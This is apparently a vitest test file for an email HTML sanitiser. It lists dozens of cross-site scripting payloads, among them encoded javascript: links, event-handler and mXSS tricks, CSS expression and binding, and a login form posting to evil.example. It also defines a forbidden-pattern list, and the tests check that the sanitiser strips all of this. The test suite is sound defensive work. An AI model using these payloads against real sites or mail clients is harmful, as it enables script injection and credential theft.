import { describe, expect, it } from 'vitest';

import { sanitizeMailHtml } from '../../src/web/mail-html.js';
import type { MailHtmlOptions, RemovedKind } from '../../src/web/mail-html.js';

const PARTS = new Map([
  ['logo@acme.example', '/messages/7/parts/2'],
  ['image001.png@01DA2B3C.4D5E6F70', '/messages/7/parts/3'],
]);

const BLOCKED: MailHtmlOptions = {
  allowRemoteImages: false,
  cidUrl: (contentId) => PARTS.get(contentId) ?? null,
};
const ALLOWED: MailHtmlOptions = { ...BLOCKED, allowRemoteImages: true };

// The checker is written independently of the sanitiser's policy file, so widening that policy
// by mistake (say, adding `style` to the tags) fails here instead of being agreed with.
// prettier-ignore
const SAFE_TAGS = new Set(
  [
    'p', 'div', 'span', 'br', 'hr', 'b', 'i', 'u', 's', 'strike', 'strong', 'em', 'sub', 'sup',
    'small', 'big', 'font', 'center', 'del', 'ins', 'mark', 'abbr', 'cite', 'q', 'tt', 'address',
    'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'h1', 'h2', 'h3', 'h4', 'h5',
    'h6', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th', 'caption', 'colgroup', 'col', 'a',
    'img',
  ],
);
const VOID_TAGS = new Set(['br', 'hr', 'img', 'col']);
// prettier-ignore
const SAFE_ATTRIBUTES = new Set(
  [
    'dir', 'lang', 'title', 'style', 'href', 'target', 'rel', 'src', 'alt', 'width', 'height',
    'align', 'valign', 'border', 'bgcolor', 'cellpadding', 'cellspacing', 'colspan', 'rowspan',
    'nowrap', 'span', 'color', 'face', 'size', 'noshade', 'start', 'type', 'class',
  ],
);
const TAG = /^<(\/?)([a-z][a-z0-9]*)((?:\s[a-z-]+(?:="[^"<>]*")?)*)\s*(\/?)>/;
const ATTRIBUTE = /\s([a-z-]+)(?:="([^"]*)")?/g;

function decodeAttribute(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(parseInt(dec, 10)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * Throws unless `html` is something a browser can only render: every `<` opens or closes an
 * allowlisted tag in the serialised form sanitize-html writes (quoted attributes), attributes are
 * allowlisted, URLs are http(s)/mailto (or our own part URLs for images), styles hold no
 * url()/expression()/binding/position, and tags balance (so nothing can close the page's own).
 */
function assertRenderable(html: string): void {
  const open: string[] = [];
  let at = html.indexOf('<');
  while (at !== -1) {
    const match = TAG.exec(html.slice(at));
    if (!match) throw new Error(`not an allowed tag at ${at}: ${html.slice(at, at + 40)}`);
    const [whole, closing, name = '', attributes = '', selfClosing] = match;
    if (!SAFE_TAGS.has(name)) throw new Error(`tag <${name}> is not allowed`);
    if (closing) {
      if (attributes !== '') throw new Error(`attributes on </${name}>`);
      if (open.pop() !== name) throw new Error(`</${name}> closes a tag it did not open`);
    } else if (VOID_TAGS.has(name)) {
      if (!selfClosing) throw new Error(`<${name}> not self-closed`);
    } else {
      if (selfClosing) throw new Error(`<${name} /> is not a void element`);
      open.push(name);
    }
    for (const [, attribute = '', raw = ''] of attributes.matchAll(ATTRIBUTE)) {
      const value = decodeAttribute(raw);
      if (!SAFE_ATTRIBUTES.has(attribute)) throw new Error(`attribute ${attribute} on <${name}>`);
      if (attribute === 'class' && !(name === 'span' && value === 'blocked-image')) {
        throw new Error(`class="${value}" on <${name}>`);
      }
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:)/i.test(value)) {
        throw new Error(`href="${value}"`);
      }
      if (attribute === 'src' && !/^(?:https?:\/\/|\/messages\/)/i.test(value)) {
        throw new Error(`src="${value}"`);
      }
      if (attribute === 'style' && /url|expression|behavior|binding|position|\\|@|</i.test(value)) {
        throw new Error(`style="${value}"`);
      }
    }
    at = html.indexOf('<', at + whole.length);
  }
  if (open.length > 0) throw new Error(`unclosed: ${open.join(', ')}`);
  if (/>/.test(html.replace(/<[^>]*>/g, ''))) throw new Error('stray > in text');
}

// What the brief names as never to appear in the output, whole, text included.
const FORBIDDEN = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<form/i,
  /<input/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<!--/,
  /<!\[/,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /expression\(/i,
  /url\(/i,
  /position:/i,
  /behavior/i,
  /-moz-binding/i,
];

interface Hostile {
  name: string;
  html: string;
  /** Kinds that must be reported in `removed`. */
  reports: RemovedKind[];
  /** Exact sanitised output, where it is worth pinning. */
  becomes?: string;
}

// prettier-ignore
const HOSTILE: Hostile[] = [
  // Script, plain and disguised.
  { name: 'script element', html: '<p>Hi</p><script>alert(1)</script>', reports: ['script'], becomes: '<p>Hi</p>' },
  { name: 'upper-case script', html: '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>ok', reports: ['script'], becomes: 'ok' },
  { name: 'unclosed script eats the rest', html: 'a<script>alert(1)', reports: ['script'], becomes: 'a' },
  { name: 'broken <<script>script>', html: '<<script>script>alert(1)</script>', reports: ['script'], becomes: '&lt;' },
  { name: '<scr<script>ipt>', html: '<scr<script>ipt>alert(1)</script>', reports: [], becomes: 'ipt&gt;alert(1)' },
  { name: 'svg with script', html: '<svg><script>alert(1)</script></svg>', reports: ['svg', 'script'], becomes: '' },
  { name: 'svg onload', html: '<svg onload=alert(1)>', reports: ['svg', 'event-handler'], becomes: '' },
  { name: 'svg link', html: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', reports: ['svg', 'javascript-url'] },
  { name: 'svg animate to href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', reports: ['svg'] },
  { name: 'math', html: '<math><mi xlink:href="javascript:alert(1)">m</mi></math>', reports: ['math', 'javascript-url'], becomes: 'm' },
  {
    name: 'math/style namespace confusion (mXSS)',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    reports: ['math', 'style-element'],
  },
  { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', reports: [] },
  { name: 'xmp raw text', html: '<xmp><img src=x onerror=alert(1)></xmp>', reports: [], becomes: '' },
  { name: 'title raw text', html: '<title><img src=x onerror=alert(1)></title>Body', reports: [], becomes: 'Body' },
  { name: 'textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)>', reports: ['form', 'event-handler', 'unsafe-url'] },

  // Event handlers.
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>', reports: ['event-handler'], becomes: '' },
  { name: 'img onerror, no quotes, slash', html: '<IMG SRC=x ONERROR=alert(1)//>', reports: ['event-handler'], becomes: '' },
  { name: 'body onload', html: '<body onload=alert(1)><p>x</p></body>', reports: ['event-handler'], becomes: '<p>x</p>' },
  { name: 'unknown tag onclick', html: '<x onclick=alert(1)>hi</x>', reports: ['event-handler'], becomes: 'hi' },
  { name: 'kept remote image, handler', html: '<img src="https://cdn.example/a.png" onerror="alert(1)" onload=alert(2)>', reports: ['event-handler'] },
  { name: 'kept cid image, handler', html: '<img src="cid:logo@acme.example" onerror="alert(1)">', reports: ['event-handler'], becomes: '<img src="/messages/7/parts/2" />' },
  { name: 'kept link, handler', html: '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(2)>x</a>', reports: ['event-handler'], becomes: '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>d</details>', reports: ['event-handler'], becomes: 'd' },
  { name: 'allowed tag, handler', html: '<p onmouseover="alert(1)" title=t>x</p>', reports: ['event-handler'], becomes: '<p title="t">x</p>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>', reports: ['form', 'event-handler'], becomes: '' },

  // Link schemes, however spelt.
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'mixed case &colon;', html: '<a href="JaVaScRiPt&colon;alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'padded entities, no semicolons', html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'hex entity colon', html: '<a href="javascript&#x3A;alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'newline-split scheme', html: '<a href="java\nscript:alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'tab entity in scheme', html: '<a href="jav&#x09;ascript:alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'leading control character', html: '<a href="&#14; javascript:alert(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'NUL inside scheme', html: '<a href="java&#0;script:alert(1)">x</a>', reports: ['unsafe-url'], becomes: '<a>x</a>' },
  { name: 'unquoted attribute', html: '<a href=javascript:alert(1)>x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'backtick value', html: '<IMG SRC=`javascript:alert("XSS")`>', reports: ['unsafe-url'], becomes: '' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">x</a>', reports: ['javascript-url'], becomes: '<a>x</a>' },
  { name: 'data:text/html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', reports: ['data-url'], becomes: '<a>x</a>' },
  { name: 'javascript: image', html: '<img src="javascript:alert(1)">', reports: ['javascript-url'], becomes: '' },
  { name: 'data: svg image', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">', reports: ['data-url'], becomes: '' },
  { name: 'srcset smuggles a fetch', html: '<img srcset="https://tracker.example/p.gif 1x">', reports: [], becomes: '' },
  { name: 'table background', html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', reports: ['javascript-url'], becomes: '<table><tr><td>x</td></tr></table>' },

  // Embedded content, forms, document-level elements.
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', reports: ['embedded-content'], becomes: '' },
  { name: 'iframe src', html: '<iframe src="https://evil.example/"></iframe>after', reports: ['embedded-content'], becomes: 'after' },
  { name: 'object data', html: '<object data="javascript:alert(1)">fallback</object>', reports: ['embedded-content', 'javascript-url'], becomes: 'fallback' },
  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', reports: ['embedded-content'], becomes: '' },
  { name: 'form action', html: '<form action="https://evil.example/steal"><input name=password type=password><button>Log in</button></form>', reports: ['form'], becomes: 'Log in' },
  { name: 'isindex', html: '<isindex action=javascript:alert(1) type=image>', reports: ['javascript-url'], becomes: '' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', reports: ['meta-refresh'], becomes: '' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="https://ok.example/">x</a>', reports: ['base-element'] },
  { name: 'link stylesheet', html: '<link rel=stylesheet href="https://evil.example/x.css">', reports: ['link-element'], becomes: '' },
  { name: 'style @import', html: '<style>@import url(https://evil.example/x.css);</style>Hi', reports: ['style-element'], becomes: 'Hi' },
  { name: 'style hides an img', html: '<style><img src=x onerror=alert(1)></style>', reports: ['style-element'], becomes: '' },

  // CSS.
  { name: 'background url(javascript:)', html: '<div style="background:url(javascript:alert(1))">x</div>', reports: ['css-url'], becomes: '<div>x</div>' },
  { name: 'quoted url in entities', html: '<div style="background-image:url(&quot;https://tracker.example/p.gif&quot;)">x</div>', reports: ['css-url'], becomes: '<div>x</div>' },
  { name: 'escaped url(', html: '<div style="background:u\\72l(https://tracker.example/p)">x</div>', reports: ['css-url'], becomes: '<div>x</div>' },
  { name: 'expression()', html: '<div style="width: expression(alert(1))">x</div>', reports: ['css-expression'], becomes: '<div>x</div>' },
  { name: 'escaped expression()', html: '<div style="width:e\\xpression(alert(1))">x</div>', reports: ['css-expression'], becomes: '<div>x</div>' },
  { name: 'behavior', html: '<div style="behavior:url(x.htc)">x</div>', reports: ['css-binding'], becomes: '<div>x</div>' },
  { name: '-moz-binding', html: '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>', reports: ['css-binding'], becomes: '<div>x</div>' },
  { name: 'position fixed overlay', html: '<div style="position:fixed;top:0;left:0;color:red">Log in again</div>', reports: ['css-position'], becomes: '<div style="color:red">Log in again</div>' },
  { name: 'absolute link overlay', html: '<a href="https://evil.example/" style="position: absolute; width:100%;height:100%">x</a>', reports: ['css-position'] },
  { name: 'style closes its tag', html: '<p style="color:red;}</style><script>alert(1)</script>">x</p>', reports: [], becomes: '<p>x</p>' },
  { name: 'font-family breakout', html: "<p style=\"font-family:'x</style><script>alert(1)</script>'\">x</p>", reports: [], becomes: '<p>x</p>' },

  // Comments, CDATA and other markup that hides tags.
  { name: 'comment hides script', html: '<!-- <script>alert(1)</script> -->ok', reports: [], becomes: 'ok' },
  { name: 'conditional comment with script', html: '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->ok', reports: [], becomes: 'ok' },
  { name: 'abrupt comment <!-->', html: '<!--><img src=x onerror=alert(1)>-->', reports: [] },
  { name: 'comment ends inside attribute', html: '<!--<img src="--><img src=x onerror=alert(1)//">', reports: ['event-handler'] },
  { name: 'CDATA', html: '<![CDATA[><img src=x onerror=alert(1)>]]>ok', reports: [] },
  { name: 'processing instruction', html: '<?xml version="1.0"?><img src=x onerror=alert(1)>', reports: ['event-handler'], becomes: '' },
  { name: 'doctype', html: '<!DOCTYPE html><p onclick=alert(1)>x</p>', reports: ['event-handler'], becomes: '<p>x</p>' },
  { name: 'stray closers try to leave the page container', html: '</td></tr></table></div></div></body><div style="position:fixed">x</div>', reports: ['css-position'], becomes: '<div>x</div>' },
  { name: 'attribute-name junk', html: '<p "onclick"=alert(1) title"=x>y</p>', reports: [] },
];

describe('sanitizeMailHtml — hostile input', () => {
  it.each(HOSTILE)('$name: unsanitised, the checker rejects it', ({ html }) => {
    // So the next test can fail: the checker is not trivially satisfied by this input.
    const bare = () => {
      assertRenderable(html);
      for (const pattern of FORBIDDEN) if (pattern.test(html)) throw new Error(String(pattern));
    };
    expect(bare).toThrow();
  });

  it.each(HOSTILE)('$name: sanitised, nothing dangerous is left', ({ html, reports, becomes }) => {
    for (const options of [BLOCKED, ALLOWED]) {
      const out = sanitizeMailHtml(html, options);
      expect(() => assertRenderable(out.html)).not.toThrow();
      for (const pattern of FORBIDDEN) expect(out.html).not.toMatch(pattern);
      expect(out.removed).toEqual(expect.arrayContaining(reports));
      if (becomes !== undefined) expect(out.html).toBe(becomes);
    }
  });
});

describe('sanitizeMailHtml — what mail needs survives', () => {
  it('keeps tables with their layout attributes', () => {
    const html =
      '<table border="1" cellpadding="4" cellspacing="0" width="100%" class="MsoTable" id="t1">' +
      '<thead><tr><th align="left" valign="top" bgcolor="#eeeeee">Item</th></tr></thead>' +
      '<tbody><tr><td colspan="2" rowspan="1" width="50%">Rebar</td></tr></tbody></table>';
    expect(sanitizeMailHtml(html, BLOCKED)).toEqual({
      html:
        '<table border="1" cellpadding="4" cellspacing="0" width="100%">' +
        '<thead><tr><th align="left" valign="top" bgcolor="#eeeeee">Item</th></tr></thead>' +
        '<tbody><tr><td colspan="2" rowspan="1" width="50%">Rebar</td></tr></tbody></table>',
      blockedRemoteImages: 0,
      removed: [],
    });
  });

  it('keeps inline colours, fonts and spacing, and drops what is not on the list', () => {
    const html =
      "<p style=\"color: #c00; background-color: rgb(255, 255, 0); font-family: Calibri, 'Segoe UI', sans-serif; " +
      'font-size: 11pt; margin: 0 0 8px 0; padding: 1em 2%; mso-line-height-rule: exactly; margin-left: -400px; ' +
      'padding-top: 3pt; border: 1px solid #ccc; text-align: center">Hi</p>';
    expect(sanitizeMailHtml(html, BLOCKED).html).toBe(
      "<p style=\"color:#c00;background-color:rgb(255, 255, 0);font-family:Calibri, 'Segoe UI', sans-serif;" +
        'font-size:11pt;margin:0 0 8px 0;padding:1em 2%;border:1px solid #ccc;text-align:center">Hi</p>',
    );
  });

  it('keeps font, center, headings, lists, quotes and preformatted text', () => {
    const html =
      '<center><h2 align="center">RFI</h2></center><font color="red" face="Arial" size="2">Urgent</font>' +
      '<ol start="3"><li>One</li></ol><blockquote>quoted</blockquote><pre><code>a &lt; b</code></pre>';
    expect(sanitizeMailHtml(html, BLOCKED).html).toBe(html);
  });

  it('opens https and mailto links in a new tab without an opener or referrer', () => {
    const html =
      '<a href="https://drawings.example/S-101.pdf" target="_self" rel="opener">S-101</a> ' +
      '<a href="mailto:pm@gc.example?subject=RFI-007">PM</a>';
    expect(sanitizeMailHtml(html, BLOCKED)).toEqual({
      html:
        '<a href="https://drawings.example/S-101.pdf" target="_blank" rel="noopener noreferrer nofollow">S-101</a> ' +
        '<a href="mailto:pm@gc.example?subject=RFI-007" target="_blank" rel="noopener noreferrer nofollow">PM</a>',
      blockedRemoteImages: 0,
      removed: [],
    });
  });

  it('writes links in the URL parser’s form, so the href shown is the one followed', () => {
    expect(
      sanitizeMailHtml('<a href=" https://Drawings.Example/a b?x=1&amp;y=2 ">d</a>', BLOCKED).html,
    ).toBe(
      '<a href="https://drawings.example/a%20b?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">d</a>',
    );
  });

  it('reads protocol-relative links (and the /\\ spelling browsers accept) as https', () => {
    expect(
      sanitizeMailHtml('<a href="//evil.example/x">a</a><a href="/\\evil.example/y">b</a>', BLOCKED)
        .html,
    ).toBe(
      '<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>' +
        '<a href="https://evil.example/y" target="_blank" rel="noopener noreferrer nofollow">b</a>',
    );
  });

  it('drops relative and unknown-scheme links but keeps their text', () => {
    const out = sanitizeMailHtml(
      '<a href="/api/projects/1?delete=1">a</a><a href="#top">b</a><a href="file:///etc/passwd">c</a><a href="ftp://x.example/">d</a>',
      BLOCKED,
    );
    expect(out).toEqual({
      html: '<a>a</a><a>b</a><a>c</a><a>d</a>',
      blockedRemoteImages: 0,
      removed: ['unsafe-url'],
    });
  });
});

describe('sanitizeMailHtml — images', () => {
  it('points cid: images at the part URL the caller gives, decoding the Content-ID', () => {
    const seen: string[] = [];
    const out = sanitizeMailHtml(
      '<img src="cid:logo@acme.example" alt="ACME" width="120"><img src="CID:image001.png%4001DA2B3C.4D5E6F70">',
      { ...BLOCKED, cidUrl: (id) => (seen.push(id), BLOCKED.cidUrl(id)) },
    );
    expect(seen).toEqual(['logo@acme.example', 'image001.png@01DA2B3C.4D5E6F70']);
    expect(out).toEqual({
      html: '<img alt="ACME" width="120" src="/messages/7/parts/2" /><img src="/messages/7/parts/3" />',
      blockedRemoteImages: 0,
      removed: [],
    });
  });

  it('drops a cid: image the caller cannot resolve', () => {
    expect(sanitizeMailHtml('a<img src="cid:gone@x.example" alt="gone">b', ALLOWED)).toEqual({
      html: 'ab',
      blockedRemoteImages: 0,
      removed: ['missing-inline-image'],
    });
  });

  it.each(['javascript:alert(1)', 'data:image/png;base64,iVBORw0KGgo=', '//evil.example/p.gif'])(
    'still checks the URL a caller returns for a cid: image (%s)',
    (returned) => {
      const out = sanitizeMailHtml('<img src="cid:x@y">', { ...BLOCKED, cidUrl: () => returned });
      expect(out.html).toBe('<img />');
    },
  );

  it('replaces remote images with a counted placeholder when remote images are off', () => {
    const html =
      '<p><img src="https://tracker.example/open.gif?u=42" alt="Company  logo"><img src="http://cdn.example/a.png">' +
      '<img src="//cdn.example/b.png" alt="<b>bold</b>"></p>';
    expect(sanitizeMailHtml(html, BLOCKED)).toEqual({
      html:
        '<p><span class="blocked-image" title="Remote image blocked">[image: Company logo]</span>' +
        '<span class="blocked-image" title="Remote image blocked">[image]</span>' +
        '<span class="blocked-image" title="Remote image blocked">[image: &lt;b&gt;bold&lt;/b&gt;]</span></p>',
      blockedRemoteImages: 3,
      removed: ['remote-image'],
    });
  });

  it('loads remote images when allowed, protocol-relative ones over https', () => {
    const html = '<img src="https://cdn.example/a.png" alt="a"><img src="//cdn.example/b.png">';
    expect(sanitizeMailHtml(html, ALLOWED)).toEqual({
      html: '<img alt="a" src="https://cdn.example/a.png" /><img src="https://cdn.example/b.png" />',
      blockedRemoteImages: 0,
      removed: [],
    });
  });

  it('drops data: and relative images even when remote images are allowed', () => {
    const out = sanitizeMailHtml(
      '<img src="data:image/png;base64,iVBORw0KGgo="><img src="/logout">',
      ALLOWED,
    );
    expect(out).toEqual({ html: '', blockedRemoteImages: 0, removed: ['data-url', 'unsafe-url'] });
  });
});

describe('sanitizeMailHtml — real-world and malformed markup', () => {
  it('removes Outlook conditional comments, head and Office tags without calling the message cleaned', () => {
    const html =
      '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" content="text/html">' +
      '<title>RE: RFI-007</title><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->' +
      '</head><body lang="EN-US" link="#0563C1"><div class="WordSection1"><p class="MsoNormal">Approved as noted.<o:p></o:p></p>' +
      '<!--[if mso]><table><tr><td>Outlook only</td></tr></table><![endif]--><![if !mso]><p>Everyone else</p><![endif]>' +
      '</div></body></html>';
    expect(sanitizeMailHtml(html, BLOCKED)).toEqual({
      html: '<div><p>Approved as noted.</p><p>Everyone else</p></div>',
      blockedRemoteImages: 0,
      removed: [],
    });
  });

  it('closes unclosed tags and nested tables', () => {
    const out = sanitizeMailHtml('<table><tr><td>a<table><tr><td><b>b<i>c', BLOCKED);
    expect(out.html).toBe(
      '<table><tr><td>a<table><tr><td><b>b<i>c</i></b></td></tr></table></td></tr></table>',
    );
    expect(() => assertRenderable(out.html)).not.toThrow();
  });

  it('straightens misnested tags', () => {
    expect(sanitizeMailHtml('<b><i>x</b>y</i>', BLOCKED).html).toBe('<b><i>x</i></b>y');
  });

  it('drops id, class and other attributes that could reach the page’s CSS or scripts', () => {
    const html =
      '<div id="app" class="admin" name="x" data-role="y" tabindex="1" contenteditable hidden>z</div>';
    expect(sanitizeMailHtml(html, BLOCKED).html).toBe('<div>z</div>');
  });

  it('reports each kind once, in the order met', () => {
    const out = sanitizeMailHtml(
      '<script>1</script><img src=x onerror=a()><script>2</script><p onclick=b()>x</p><img src="https://t.example/1"><img src="https://t.example/2">',
      BLOCKED,
    );
    expect(out.removed).toEqual(['script', 'event-handler', 'unsafe-url', 'remote-image']);
    expect(out.blockedRemoteImages).toBe(2);
  });

  it('passes plain text through, escaped', () => {
    expect(sanitizeMailHtml('Tom & Jerry say 3 < 4 > 2', BLOCKED)).toEqual({
      html: 'Tom &amp; Jerry say 3 &lt; 4 &gt; 2',
      blockedRemoteImages: 0,
      removed: [],
    });
  });
});
